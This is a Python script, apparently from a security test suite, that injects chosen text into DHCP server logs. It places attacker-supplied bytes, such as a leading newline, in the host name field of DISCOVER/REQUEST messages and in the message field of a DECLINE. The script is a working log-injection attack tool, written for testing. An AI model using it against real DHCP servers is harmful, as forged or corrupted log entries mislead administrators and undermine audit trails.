"""Log injection through DHCP text fields (issue 11, item 3): one DISCOVER / REQUEST exchange from
this guest (its own MAC as chaddr) whose host name (option 12) is --hostname-hex, then, when
--message-hex is given, a DECLINE of the address it got whose message (option 56) is that text —
both guest text that a server logs. Bounded: three tries, each reply awaited --reply-timeout.

  ip netns exec NS /usr/bin/python3 dhcp_inject.py --iface eth0 --hostname-hex 0a616e6b... [--message-hex ...]
Prints {"offered", "acked", "declined"}.
"""

import argparse

from hostile_link import Link, client_id_for, dhcp_frame, new_rng, option, print_result


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--iface", default="eth0")
    parser.add_argument("--hostname-hex", required=True)
    parser.add_argument("--message-hex")
    parser.add_argument("--reply-timeout", type=float, default=2.0)
    args = parser.parse_args()

    hostname = bytes.fromhex(args.hostname_hex)[:255]
    link = Link(args.iface)
    rng = new_rng()
    client_id = client_id_for(link.mac)
    result = {"offered": None, "acked": None, "declined": False}
    for _ in range(3):
        xid = rng.getrandbits(32)
        link.send(dhcp_frame(link.mac, link.mac, xid, "discover", [("client_id", client_id), ("hostname", hostname)]))
        _, offer = link.wait_reply(xid, {"offer"}, args.reply_timeout)
        if offer is None:
            continue
        result["offered"] = offer.yiaddr
        server = option(offer, "server_id") or offer["IP"].src
        link.send(dhcp_frame(link.mac, link.mac, xid, "request", [("client_id", client_id), ("hostname", hostname),
                                                                ("requested_addr", offer.yiaddr), ("server_id", server)]))
        kind, ack = link.wait_reply(xid, {"ack", "nak"}, args.reply_timeout)
        if kind != "ack":
            continue
        result["acked"] = ack.yiaddr
        if args.message_hex:
            message = bytes.fromhex(args.message_hex)[:255]
            link.send(dhcp_frame(link.mac, link.mac, rng.getrandbits(32), "decline",
                                 [("client_id", client_id), ("requested_addr", ack.yiaddr), ("server_id", server),
                                  ("error_message", message)], broadcast=False))
            result["declined"] = True
        break
    link.close()
    print_result(result)


if __name__ == "__main__":
    main()
